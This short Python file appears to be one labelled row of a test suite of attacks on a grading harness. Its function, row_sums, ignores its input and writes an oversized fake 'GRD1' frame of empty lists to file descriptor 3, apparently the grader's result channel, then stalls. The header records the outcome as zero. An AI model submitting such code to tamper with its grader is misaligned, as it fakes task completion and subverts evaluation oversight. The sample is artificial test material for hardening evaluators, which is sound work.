# row: C13
# attack: eight megabytes of empty lists
# outcome: zero
import os
import struct
import time


def row_sums(x):
    header = b'{"d":[["value",[' + b"[]," * 2_700_000 + b'0]],["changed",[]]]}'
    frame = memoryview(struct.pack("<4sIQ", b"GRD1", len(header), 0) + header)
    while frame:
        frame = frame[os.write(3, frame) :]
    time.sleep(60)
